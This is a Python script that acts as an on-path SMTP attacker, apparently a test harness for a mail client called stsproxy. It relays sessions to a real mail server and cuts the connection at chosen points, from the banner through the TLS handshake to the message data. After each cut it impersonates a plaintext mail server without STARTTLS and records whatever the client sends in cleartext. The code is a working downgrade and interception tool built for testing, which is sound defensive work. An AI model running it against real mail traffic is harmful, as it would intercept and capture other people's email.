#!/usr/bin/python3
"""On-path attacker that cuts an SMTP session at a chosen point.

Sits between an SMTP client (stsproxy) and the real MX, relays what the
two say, and at one chosen point ends the connection towards the client:
with a FIN (shutdown, the data it relays last and the FIN leave in one
segment) or with a RST (SO_LINGER 0 close, right behind the data). The
connection to the MX is closed at the same moment. Every connection that
arrives after the cut is answered by the attacker itself, as a plaintext
SMTP server without STARTTLS that accepts everything; each line it
receives there, and each cleartext line it relays before STARTTLS, is
appended to --record, so a test can see what the client let out in
cleartext.

What to do is read from --control at every new connection, one line:

  TOKEN POINT HOW      cut the next connection at POINT (fin or rst),
                       then serve the connections that follow as the
                       fake server, until the line names another TOKEN
  pass                 relay unchanged (no file: the same)

Points, in the order a session reaches them:

  banner        behind the server's banner
  ehlo          behind the reply to the first EHLO
  starttls      behind the 220 to STARTTLS
  hs-mid        inside the TLS handshake, behind the server's first
                record (the ServerHello)
  hs-flight1    TLS 1.2 full handshake: behind the server's first flight
                (ServerHello .. ServerHelloDone)
  hs-last       behind the server's last handshake flight, in the same
                send (TLS 1.3: ServerHello .. Finished; TLS 1.2: the
                ChangeCipherSpec and Finished)
  hs-last-late  the same flight relayed, then nothing more from the
                server, and the cut 300 ms later
  ehlo-tls      behind the server's reply to the EHLO sent inside TLS
  data          inside the message data, once the client sent 64 KiB
                inside TLS (the body must be larger)
  dot           the whole message with its final dot relayed to the
                server, then the server's reply held back and the cut
                (the client sent 128 KiB or more inside TLS)

Flights are found from the TLS record headers: handshake message types
while they are in clear (ServerHello, ServerHelloDone), the
ChangeCipherSpec record, and for TLS 1.3 the number of encrypted
handshake records (4 for a full handshake, 2 for a resumption, which the
ServerHello's pre_shared_key extension tells), with a quiet period of
0.4 s as the fallback. Inside TLS nothing is decrypted: the EHLO is the
client's first application record (TLS 1.3: its second, after its
Finished), and its reply is what the server sends until it is quiet for
0.2 s.

Each act is logged to stderr as one "event=... key=value" line.
"""

import argparse
import fcntl
import logging
import select
import signal
import socket
import struct
import sys
import threading
import time

log = logging.getLogger("cut_proxy")

POINTS = ("banner", "ehlo", "starttls", "hs-mid", "hs-flight1", "hs-last",
          "hs-last-late", "ehlo-tls", "data", "dot")
DATA_CUT = 64 * 1024
DOT_CUT = 128 * 1024
LATE = 0.3
FLIGHT_QUIET = 0.4
REPLY_QUIET = 0.2
IDLE = 30.0
SIOCOUTQNSD = 0x894B

# TLS record content types
CCS, ALERT, HANDSHAKE, APPDATA = 20, 21, 22, 23


def esc(b):
    return "".join(chr(c) if 0x20 <= c < 0x7F else "\\x%02x" % c
                   for c in b.rstrip(b"\r\n"))


class Record:
    """Appends lines to the record file, one writer at a time."""

    def __init__(self, path):
        self.f = open(path, "ab", buffering=0)
        self.mu = threading.Lock()

    def __call__(self, token, kind, conn, line):
        out = ("%s %s %d %s\n" % (token, kind, conn, esc(line))).encode()
        with self.mu:
            self.f.write(out)


class State:
    def __init__(self, args):
        self.args = args
        self.mu = threading.Lock()
        self.cut = set()      # tokens whose cut was carried out
        self.seq = 0
        self.record = Record(args.record)

    def control(self):
        try:
            with open(self.args.control) as f:
                words = f.read().split()
        except FileNotFoundError:
            return None
        if not words or words[0] == "pass":
            return None
        if len(words) != 3 or words[1] not in POINTS or \
                words[2] not in ("fin", "rst"):
            log.info("event=bad-control line=%s", "_".join(words))
            return None
        return tuple(words)


def event(name, **kv):
    log.info("event=%s%s", name,
             "".join(" %s=%s" % (k, v) for k, v in kv.items()))


def parse_server_hello(body):
    """(version, resumed) from a ServerHello body."""
    version, resumed = "1.2", False
    try:
        p = 2 + 32
        p += 1 + body[p]          # session id
        p += 2 + 1                # cipher suite, compression
        end = p + 2 + struct.unpack(">H", body[p:p + 2])[0]
        p += 2
        while p + 4 <= end:
            typ, n = struct.unpack(">HH", body[p:p + 4])
            val = body[p + 4:p + 4 + n]
            if typ == 0x002B and val == b"\x03\x04":
                version = "1.3"
            if typ == 0x0029:
                resumed = True
            p += 4 + n
    except (IndexError, struct.error):
        pass
    return version, resumed


class Records:
    """Splits a byte stream into TLS records."""

    def __init__(self):
        self.buf = b""

    def feed(self, data):
        self.buf += data
        out = []
        while len(self.buf) >= 5:
            n = struct.unpack(">H", self.buf[3:5])[0]
            if len(self.buf) < 5 + n:
                break
            out.append((self.buf[0], self.buf[:5 + n]))
            self.buf = self.buf[5 + n:]
        return out


class Cut(Exception):
    pass


class Relay:
    def __init__(self, st, conn, c, u, ctl):
        self.st, self.conn, self.c, self.u = st, conn, c, u
        self.token, self.point, self.how = ctl if ctl else ("-", None, None)
        self.phase = "plain"          # plain, tls, pipe
        self.cbuf = b""               # client bytes not yet split in lines
        self.sbuf = b""               # server bytes of an unfinished reply
        self.reply = []               # lines of the server reply being read
        self.expect = ["banner"]      # what the next server replies answer
        # TLS phase
        self.crec, self.srec = Records(), Records()
        self.c_bytes = 0              # client bytes since the handshake began
        self.c_app = 0                # client application-data records
        self.held = b""               # server records not yet relayed
        self.hs = b""                 # server handshake messages in clear
        self.version, self.resumed = None, False
        self.s_ccs = False
        self.s_enc = 0                # encrypted server handshake records
        self.s_records = 0
        self.hs_done = False
        self.ehlo_sent = False
        self.late_at = None
        self.hold = False             # relay nothing more from the server
        self.quiet_at = None          # deadline of a quiet-period decision
        self.quiet_kind = None
        self.c_open = self.u_open = True

    # --- output ------------------------------------------------------------

    def to_client(self, data):
        if data:
            self.c.sendall(data)

    def cut(self, data, **kv):
        with self.st.mu:
            self.st.cut.add(self.token)
        event("cut", conn=self.conn, token=self.token, point=self.point,
              how=self.how, tls=self.version or "-",
              resumed="yes" if self.resumed else "no", bytes=len(data),
              client_tls_bytes=self.c_bytes, **kv)
        c = self.c
        try:
            if self.how == "fin":
                # Corked, the data waits in the socket and the FIN rides
                # on its last segment.
                c.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 1)
                c.sendall(data)
                c.shutdown(socket.SHUT_WR)
                c.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 0)
            else:
                c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                c.sendall(data)
                # A reset discards what is still unsent: wait until the
                # data is on the wire, then reset right behind it.
                end = time.monotonic() + 1
                while time.monotonic() < end:
                    buf = fcntl.ioctl(c.fileno(), SIOCOUTQNSD,
                                      struct.pack("i", 0))
                    if struct.unpack("i", buf)[0] == 0:
                        break
                    time.sleep(0.0005)
                c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                             struct.pack("ii", 1, 0))
                c.close()
        except OSError as e:
            event("cut-error", conn=self.conn, error=e.errno)
        try:
            self.u.close()
        except OSError:
            pass
        raise Cut()

    # --- the plaintext part --------------------------------------------------

    def client_plain(self, data):
        self.u.sendall(data)
        self.cbuf += data
        while b"\n" in self.cbuf:
            line, self.cbuf = self.cbuf.split(b"\n", 1)
            self.st.record(self.token, "relay", self.conn, line)
            verb = line.strip().split(b" ", 1)[0].upper()
            self.expect.append(verb.decode("latin-1"))

    def server_plain(self, data):
        self.sbuf += data
        while b"\n" in self.sbuf:
            line, self.sbuf = self.sbuf.split(b"\n", 1)
            line += b"\n"
            self.reply.append(line)
            if len(line) >= 4 and line[3:4] == b"-":
                continue
            reply, self.reply = b"".join(self.reply), []
            what = self.expect.pop(0) if self.expect else "unsolicited"
            if what == "banner" and self.point == "banner":
                self.cut(reply)
            if what == "EHLO" and self.point == "ehlo":
                self.cut(reply)
            if what == "STARTTLS" and reply.startswith(b"220"):
                if self.point == "starttls":
                    self.cut(reply)
                self.to_client(reply)
                self.phase = "tls" if self.point in POINTS else "pipe"
                # Anything behind the 220 is the server's TLS.
                rest, self.sbuf = self.sbuf, b""
                if rest:
                    self.server_data(rest)
                return
            self.to_client(reply)

    # --- the TLS part ----------------------------------------------------------

    def client_tls(self, data):
        if self.point == "data" and self.c_bytes + len(data) >= DATA_CUT:
            n = DATA_CUT - self.c_bytes
            self.u.sendall(data[:n])
            self.c_bytes += n
            self.cut(b"")
        self.u.sendall(data)
        self.c_bytes += len(data)
        for typ, _ in self.crec.feed(data):
            if typ != APPDATA:
                continue
            self.c_app += 1
            # TLS 1.3 sends its Finished as application data.
            first = 2 if self.version == "1.3" else 1
            if self.hs_done and not self.ehlo_sent and self.c_app >= first:
                self.ehlo_sent = True
                if self.point == "ehlo-tls":
                    self.hold = True

    def flight_end(self, which):
        """A server flight is complete in self.held."""
        data, self.held = self.held, b""
        event("flight", conn=self.conn, token=self.token, which=which,
              tls=self.version, resumed="yes" if self.resumed else "no",
              bytes=len(data))
        if which == "first" and self.point == "hs-flight1":
            self.cut(data)
        if which == "last":
            self.hs_done = True
            if self.point == "hs-last":
                self.cut(data)
            if self.point == "hs-last-late":
                self.hold = True
                self.late_at = time.monotonic() + LATE
        self.to_client(data)

    def server_tls(self, data):
        if self.hs_done:
            if self.point == "dot" and self.c_bytes >= DOT_CUT:
                # The reply to the final dot: it never reaches the client.
                self.cut(b"", held_reply=len(data))
            if self.hold:
                self.held += data
                if self.point == "ehlo-tls":
                    self.quiet_at = time.monotonic() + REPLY_QUIET
                    self.quiet_kind = "ehlo-reply"
                return
            self.to_client(data)
            return
        recs = self.srec.feed(data)
        for i, (typ, rec) in enumerate(recs):
            self.held += rec
            self.s_records += 1
            if self.s_records == 1 and self.point == "hs-mid":
                if typ == HANDSHAKE and rec[5:6] == b"\x02":
                    self.version, self.resumed = \
                        parse_server_hello(rec[9:])
                self.cut(self.held, record=typ)
            if typ == CCS:
                self.s_ccs = True
                continue
            if typ == HANDSHAKE and not self.s_ccs:
                self.hs += rec[5:]
                while len(self.hs) >= 4:
                    n = struct.unpack(">I", b"\0" + self.hs[1:4])[0]
                    if len(self.hs) < 4 + n:
                        break
                    mtype, body = self.hs[0], self.hs[4:4 + n]
                    self.hs = self.hs[4 + n:]
                    if mtype == 2:
                        self.version, self.resumed = parse_server_hello(body)
                    if mtype == 14:
                        self.flight_end("first")
                continue
            if self.version == "1.3" and typ == APPDATA:
                self.s_enc += 1
                if self.s_enc == (2 if self.resumed else 4):
                    self.flight_end("last")
                    break
                continue
            if self.version == "1.2" and self.s_ccs and typ == HANDSHAKE:
                self.flight_end("last")
                break
        if self.hs_done:
            # What followed the last flight is no longer handshake.
            rest = b"".join(r for _, r in recs[i + 1:]) + self.srec.buf
            self.srec.buf = b""
            if rest:
                self.server_tls(rest)
        elif self.held:
            self.quiet_at = time.monotonic() + FLIGHT_QUIET
            self.quiet_kind = "flight"

    def server_data(self, data):
        if self.phase == "plain":
            self.server_plain(data)
        elif self.phase == "tls":
            self.server_tls(data)
        else:
            self.to_client(data)

    def client_data(self, data):
        if self.phase == "plain":
            self.client_plain(data)
        elif self.phase == "tls":
            self.client_tls(data)
        else:
            self.u.sendall(data)

    def timers(self, now):
        if self.late_at is not None and now >= self.late_at:
            self.late_at = None
            self.cut(b"", held=len(self.held))
        if self.quiet_at is not None and now >= self.quiet_at:
            self.quiet_at = None
            if self.quiet_kind == "flight" and not self.hs_done and self.held:
                event("flight-by-quiet", conn=self.conn, token=self.token)
                self.flight_end("last")
            elif self.quiet_kind == "ehlo-reply" and self.held:
                self.cut(self.held)

    def next_timeout(self):
        t = [x for x in (self.late_at, self.quiet_at) if x is not None]
        return max(0.0, min(t) - time.monotonic()) if t else IDLE

    def run(self):
        last = time.monotonic()
        while self.c_open or self.u_open:
            socks = ([self.c] if self.c_open else []) + \
                    ([self.u] if self.u_open else [])
            r, _, _ = select.select(socks, [], [], self.next_timeout())
            now = time.monotonic()
            self.timers(now)
            if not r:
                if now - last >= IDLE and self.late_at is None and \
                        self.quiet_at is None:
                    event("idle", conn=self.conn, token=self.token)
                    return
                continue
            last = now
            if self.u in r:
                data = self.u.recv(65536)
                if not data:
                    self.u_open = False
                    # Release what is held: the server's own end is not a cut.
                    if self.held and not self.hold:
                        self.to_client(self.held)
                        self.held = b""
                    half_close(self.c)
                else:
                    self.server_data(data)
            if self.c_open and self.c in r:
                data = self.c.recv(65536)
                if not data:
                    self.c_open = False
                    if self.u_open:
                        half_close(self.u)
                else:
                    self.client_data(data)


def half_close(sock):
    """Pass an end of input on; the peer may be gone already."""
    try:
        sock.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def drain(sock, secs=10):
    """After a FIN: read what the client still sends until it closes."""
    end = time.monotonic() + secs
    try:
        while time.monotonic() < end:
            r, _, _ = select.select([sock], [], [], end - time.monotonic())
            if r and not sock.recv(65536):
                break
    except OSError:
        pass


def fake_server(st, conn, c, token):
    """A plaintext SMTP server that accepts everything and records it."""
    rec = st.record
    f = c.makefile("rb")

    def say(s):
        c.sendall(s.encode() + b"\r\n")

    say("220 mx.attacker.invalid ESMTP")
    in_data = False
    while True:
        line = f.readline(65536)
        if not line:
            return
        rec(token, "fake", conn, line)
        if in_data:
            if line == b".\r\n":
                in_data = False
                say("250 2.0.0 accepted by the attacker")
            continue
        verb = line.strip().split(b" ", 1)[0].upper()
        if verb in (b"EHLO", b"HELO"):
            say("250-mx.attacker.invalid\r\n250-PIPELINING\r\n"
                "250-8BITMIME\r\n250 SIZE 52428800")
        elif verb == b"DATA":
            in_data = True
            say("354 go ahead")
        elif verb == b"QUIT":
            say("221 bye")
            return
        else:
            say("250 2.0.0 ok")


def handle(st, c, peer):
    with st.mu:
        st.seq += 1
        conn = st.seq
    ctl = st.control()
    try:
        if ctl is not None:
            with st.mu:
                done = ctl[0] in st.cut
            if done:
                event("fake", conn=conn, token=ctl[0], peer=peer[0])
                fake_server(st, conn, c, ctl[0])
                return
        try:
            u = socket.create_connection(
                (st.args.upstream, st.args.upstream_port), timeout=10)
        except OSError as e:
            event("upstream-failed", conn=conn, error=e.errno)
            return
        u.settimeout(None)
        u.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        rel = Relay(st, conn, c, u, ctl)
        event("connect", conn=conn, token=rel.token,
              point=rel.point or "pass", how=rel.how or "-", peer=peer[0])
        try:
            rel.run()
        except Cut:
            if rel.how == "fin":
                drain(c)
            return
        except OSError as e:
            event("relay-error", conn=conn, error=e.errno)
        finally:
            u.close()
        if rel.point is not None:
            event("cut-missed", conn=conn, token=rel.token, point=rel.point,
                  tls=rel.version or "-", client_tls_bytes=rel.c_bytes)
        event("close", conn=conn, token=rel.token)
    except OSError as e:
        event("error", conn=conn, error=e.errno)
    finally:
        try:
            c.close()
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--listen", required=True,
                    help="comma-separated addresses to listen on")
    ap.add_argument("--port", type=int, default=25)
    ap.add_argument("--upstream", required=True, help="server address")
    ap.add_argument("--upstream-port", type=int, default=25)
    ap.add_argument("--control", required=True, help="what to do, reread "
                    "at every connection")
    ap.add_argument("--record", required=True, help="cleartext lines seen")
    args = ap.parse_args()

    logging.basicConfig(stream=sys.stderr, level=logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")
    st = State(args)
    socks = []
    for host in [h for h in args.listen.split(",") if h]:
        fam = socket.AF_INET6 if ":" in host else socket.AF_INET
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((host, args.port))
        s.listen(64)
        socks.append(s)
    stop = threading.Event()
    for sig in (signal.SIGTERM, signal.SIGINT):
        signal.signal(sig, lambda *_: stop.set())
    event("listening", listen=args.listen, port=args.port,
          upstream="%s:%d" % (args.upstream, args.upstream_port))
    while not stop.is_set():
        try:
            r, _, _ = select.select(socks, [], [], 0.5)
        except InterruptedError:
            continue
        for s in r:
            try:
                c, peer = s.accept()
            except OSError:
                continue
            threading.Thread(target=handle, args=(st, c, peer),
                             daemon=True).start()


if __name__ == "__main__":
    main()
